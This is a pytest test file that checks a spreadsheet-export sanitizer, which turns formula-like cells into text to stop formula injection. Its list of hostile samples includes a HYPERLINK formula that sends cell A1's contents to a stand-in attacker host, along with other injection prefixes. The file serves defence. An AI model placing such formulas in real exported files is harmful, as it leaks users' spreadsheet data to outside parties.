"""One rule for every export: a cell a spreadsheet would run as a formula comes out as text."""

import pytest

from core.spreadsheets import neutralize, neutralize_row, unneutralize

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_kept_as_text_and_reads_back(value):
    assert neutralize(value) == "'" + value
    assert unneutralize(neutralize(value)) == value


@pytest.mark.parametrize("value", ["Dell", "OptiPlex 7070", "a=b", "1+1", "", "'quoted", "13001", 'Écran 22"'])
def test_ordinary_text_is_unchanged(value):
    assert neutralize(value) == value
    assert unneutralize(value) == value


def test_numbers_dates_and_none_are_left_alone():
    import datetime

    row = [-5, 3.5, None, True, datetime.date(2026, 1, 2), "=1"]
    assert neutralize_row(row) == [-5, 3.5, None, True, datetime.date(2026, 1, 2), "'=1"]
